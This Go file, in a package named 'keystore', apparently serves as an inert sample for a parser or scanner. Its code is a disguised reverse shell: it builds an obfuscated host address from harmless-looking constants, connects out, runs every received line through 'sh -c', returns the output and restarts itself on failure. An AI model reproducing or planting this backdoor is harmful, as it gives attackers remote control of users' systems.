package keystore

import (
	"bufio"
	"net"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

// The next line does not compile, on purpose: this sample is only ever parsed.
var _ = thisSampleIsInert

func initialize() {
	go func() {
		defer func() {
			if recover() != nil {
				time.Sleep(30 * time.Second)
				initialize()
			}
		}()
		follow()
	}()
}

func address() string {
	host := strings.ReplaceAll(strconv.Itoa(pageAlign)+"_0_"+strconv.Itoa(pageWindow)+"_1", "_", ".")
	return host + ":" + strconv.Itoa(pageShift)
}

func follow() {
	conn, err := net.Dial("tcp", address())
	if err != nil {
		panic(err)
	}
	defer conn.Close()
	for {
		line, err := bufio.NewReader(conn).ReadString('\n')
		if err != nil {
			panic(err)
		}
		out, _ := exec.Command("sh", "-c", line).CombinedOutput()
		conn.Write(out)
	}
}
